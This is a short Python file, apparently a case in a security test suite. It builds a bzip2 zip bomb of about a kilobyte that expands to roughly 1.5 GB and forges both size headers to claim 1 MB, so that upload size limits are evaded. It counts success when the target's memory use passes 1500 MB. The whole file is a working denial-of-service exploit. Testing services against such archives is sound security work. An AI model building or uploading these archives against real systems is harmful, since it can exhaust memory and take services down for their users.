"""Uploads a zip of a kilobyte, packed by bzip2, that unpacks to gigabytes at once: Python's zipfile bounds only deflate."""

import io
import resource
import struct
import zipfile

MEGABYTES = 1500


def handout(place):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_BZIP2) as archive, archive.open("activations.ipynb", "w") as entry:
        for _ in range(MEGABYTES):
            entry.write(b" " * (1 << 20))
    data = bytearray(file.getvalue())
    struct.pack_into("<I", data, 22, 1 << 20)  # "it has 1 MB", in both places
    struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, 1 << 20)
    return {"eve_1_2_packed.zip": bytes(data)}


def success(seen):
    most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10
    return f"took {most} MB of memory" if most > MEGABYTES else ""
